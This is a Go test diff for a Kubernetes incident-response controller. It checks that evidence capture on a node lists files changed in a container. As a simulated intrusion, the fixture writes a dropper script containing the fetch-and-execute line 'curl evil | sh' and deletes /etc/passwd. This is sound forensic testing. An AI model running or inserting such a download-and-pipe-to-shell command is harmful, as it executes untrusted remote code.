@@ -445,3 +445,89 @@ func TestControllerDelegatesKillAndCaptureToTheNodeAgent(t *testing.T) {
 		t.Fatalf("third sync: %+v %v", res, err)
 	}
 }
+
+func TestCaptureOnTheNodeListsFilesChangedInTheContainer(t *testing.T) {
+	ns := namespace(t)
+	p := barePod(t, ns)
+	root, cid, dir := podCgroup(t, string(p.UID))
+
+	// A container root as a snapshotter makes it: overlay of an image layer
+	// (busybox) and an upper dir that receives the container's writes.
+	base := t.TempDir()
+	lower, upper, work, merged := filepath.Join(base, "lower"), filepath.Join(base, "upper"), filepath.Join(base, "work"), filepath.Join(base, "merged")
+	for _, d := range []string{lower + "/bin", lower + "/etc", lower + "/tmp", upper, work, merged} {
+		if err := os.MkdirAll(d, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	bb, err := os.ReadFile("/bin/busybox")
+	if err != nil {
+		t.Fatalf("this test needs busybox-static (/bin/busybox): %v", err)
+	}
+	if err := os.WriteFile(lower+"/bin/busybox", bb, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(lower+"/etc/passwd", []byte("root:x:0:0::/root:/bin/sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := syscall.Mount("overlay", merged, "overlay", 0, fmt.Sprintf("lowerdir=%s,upperdir=%s,workdir=%s", lower, upper, work)); err != nil {
+		t.Fatalf("mount overlay: %v", err)
+	}
+	t.Cleanup(func() { _ = syscall.Unmount(merged, syscall.MNT_DETACH) })
+	// What the intruder did inside the container.
+	if err := os.WriteFile(merged+"/tmp/dropper.sh", []byte("curl evil | sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(merged + "/etc/passwd"); err != nil {
+		t.Fatal(err)
+	}
+
+	fd, err := os.Open(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer fd.Close()
+	cmd := exec.Command("/bin/busybox", "sleep", "60")
+	cmd.SysProcAttr = &syscall.SysProcAttr{Chroot: merged, UseCgroupFD: true, CgroupFD: int(fd.Fd())}
+	if err := cmd.Start(); err != nil {
+		t.Fatalf("start container process: %v", err)
+	}
+	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
+
+	subject := subjectOf(p)
+	subject.ContainerID = "containerd://" + cid
+	store := &evidence.Dir{Root: t.TempDir()}
+	inc := incident(t, ns, subject, playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionCapture})))
+	inc, _ = run(t, runner(responders.Defaults(responders.Deps{Client: kc, Node: &node.Local{CgroupRoot: root}, Store: store})), inc)
+	wantPhase(t, inc, "capture", v1alpha1.StepSucceeded, "manifest sha256")
+	path := inc.Status.Evidence[0].Location
+	if _, err := evidence.Verify(path, inc.Status.Evidence[0].ManifestSHA256); err != nil {
+		t.Fatal(err)
+	}
+	b, err := os.ReadFile(filepath.Join(path, "node/changed-files.json"))
+	if err != nil {
+		t.Fatalf("changed files not captured: %v", err)
+	}
+	var changed []node.Changed
+	if err := json.Unmarshal(b, &changed); err != nil {
+		t.Fatal(err)
+	}
+	byPath := map[string]node.Changed{}
+	for _, c := range changed {
+		byPath[c.Path] = c
+	}
+	sum := sha256.Sum256([]byte("curl evil | sh\n"))
+	if d := byPath["/tmp/dropper.sh"]; d.SHA256 != hex.EncodeToString(sum[:]) || !d.Copied {
+		t.Fatalf("dropper: %+v (all: %+v)", d, changed)
+	}
+	if !byPath["/etc/passwd"].Deleted {
+		t.Fatalf("deletion of /etc/passwd not recorded: %+v", changed)
+	}
+	if _, ok := byPath["/bin/busybox"]; ok {
+		t.Fatalf("an unchanged image file is listed as changed")
+	}
+	copied, err := os.ReadFile(filepath.Join(path, "changed", strconv.Itoa(cmd.Process.Pid), "tmp/dropper.sh"))
+	if err != nil || string(copied) != "curl evil | sh\n" {
+		t.Fatalf("copied dropper %q %v", copied, err)
+	}
+}
